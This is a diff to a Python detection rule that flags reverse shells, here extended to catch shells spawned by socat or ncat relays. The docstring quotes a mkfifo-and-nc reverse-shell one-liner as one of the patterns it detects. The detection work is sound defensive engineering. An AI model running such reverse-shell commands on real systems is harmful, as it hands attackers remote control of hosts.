@@ -146,7 +146,9 @@ class ReverseShell(Behaviour):
         the socket is the parent's, the shell gets the pty), checked live through the probe;
     (c) a shell reading commands from stdin joined by a pipe to a network tool (the mkfifo +
         `nc` pattern: `cat f | sh -i 2>&1 | nc host port > f`). The two execs arrive in either
-        order; pipes seen on the other side are remembered for a while (bounded)."""
+        order; pipes seen on the other side are remembered for a while (bounded);
+    (d) a shell reading commands, started by a network tool that holds a TCP/UDP socket on any
+        fd (socat's exec: gives the shell a socketpair or a pty and relays), checked live."""
 
     info = _info(1, "Reverse shell: a shell or interpreter with its input/output on a network socket",
                  "critical", ("attack.execution", "attack.t1059.004"),
@@ -210,6 +212,16 @@ class ReverseShell(Behaviour):
                     return [(self.info, ev, {"fds": [f"0:{fds.get(0)}"], "parent_pid": ppid,
                                              "parent_exe": view.get("ParentImage"),
                                              "parent_sockets": socks})]
+        if is_shell and probe is not None and _reads_commands(attr(ev, "argv")) \
+                and _program_kind(_base(view.get("ParentImage")).lower()) == "net":
+            # (d) a relay's shell: socat exec:sh (stdio a socketpair) or exec:sh,pty (a pty),
+            # ncat --exec: the TCP socket is on any fd of the network tool that started it.
+            ppid = attr(ev, "ppid")
+            socks = probe.inet_sockets(ppid, _start_ticks(attr(ev, "parent_exec_id"))) if ppid else []
+            if socks and self._first([s["inode"] for s in socks]):
+                return [(self.info, ev, {"fds": [f"{fd}:{fds.get(fd, '')}" for fd in (0, 1, 2)],
+                                         "parent_pid": ppid, "parent_exe": view.get("ParentImage"),
+                                         "parent_sockets": socks})]
         side = "shell" if is_shell and _reads_commands(attr(ev, "argv")) else (
             "net" if name in NET_TOOLS else None)
         if side is None:
